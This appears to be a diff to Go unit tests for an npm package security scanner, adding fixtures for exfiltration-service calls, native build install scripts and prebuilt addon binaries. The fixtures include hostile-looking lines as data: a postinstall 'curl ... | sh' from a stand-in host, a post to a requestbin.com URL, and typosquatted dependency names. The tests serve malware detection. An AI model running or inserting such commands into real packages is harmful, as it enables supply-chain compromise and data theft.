@@ -65,6 +65,8 @@ func TestLineRules(t *testing.T) {
 		{"a.js", `const tz = Intl.DateTimeFormat().resolvedOptions().timeZone`, ""},
 		{"a.js", `// see https://github.com/foo/bar for the spec`, ""},
 		{"a.js", `const v = '127.0.0.1:8080/'`, ""},
+		{"a.js", "const b = await this.client.apiRequestBinary('getSourceFile', {", ""},
+		{"a.js", "post('https://en2celr7rewbul.x.requestbin.com/r')", RuleExfilService},
 		{"a.js", `if ('CI' in process.env) {}`, ""},
 		{"docs.md", `const cp = require('child_process')`, ""},
 		{"types/index.d.ts", `eval(x)`, ""},
@@ -128,6 +130,8 @@ func TestPackageJSONRules(t *testing.T) {
 		{`{"name":"x","dependencies":{"a":"1"},"scripts":{"preinstall":"node setup.js"}}`, []string{RuleInstallScript}, 70},
 		{`{"name":"x","dependencies":{"a":"1"},"scripts":{"postinstall":"curl https://x.example/i.sh | sh"}}`, []string{RuleInstallDownload}, 40},
 		{`{"name":"x","dependencies":{"a":"1","left-pad":"1.3.0"}}`, []string{RuleNewDependency}, 96},
+		{`{"name":"x","dependencies":{"a":"1"},"scripts":{"install":"node-gyp-build"}}`, []string{RuleNativeBuild}, 88},
+		{`{"name":"x","dependencies":{"a":"1"},"scripts":{"install":"node-gyp-build && node x.js"}}`, []string{RuleInstallScript}, 70},
 		{`{"name":"x","dependencies":{"a":"1","expresss":"4.0.0"}}`, []string{RuleNewDependency, RuleTyposquat}, 36},
 		{`{"name":"x","dependencies":{"a":"1","crossenv":"1.0.0"}}`, []string{RuleNewDependency, RuleTyposquat}, 36},
 		{`{"name":"x","dependencies":{"a":"git+https://example.com/a.git"}}`, []string{RuleDependencyURL}, 70},
@@ -158,6 +162,11 @@ func TestBinaryAndMinified(t *testing.T) {
 	got := rules(analyze(t, base, nw))
 	if got[RuleBinaryDrop] != High || got[RuleBinaryNew] != Info || got[RuleMinifiedNew] != Medium {
 		t.Fatalf("findings %v", got)
+	}
+	// prebuildify's layout is a native addon, not a dropped executable
+	got = rules(analyze(t, base, map[string]string{"index.js": "module.exports = 1\n", "prebuilds/linux-x64/x.glibc.node": "\x7fELF\x02\x01\x01\x00", "vendor/linux-x64/x.node": "\x7fELF\x02\x01\x01\x00"}))
+	if got[RulePrebuiltAddon] != Medium || got[RuleBinaryDrop] != High {
+		t.Fatalf("prebuilds: findings %v", got)
 	}
 }
 
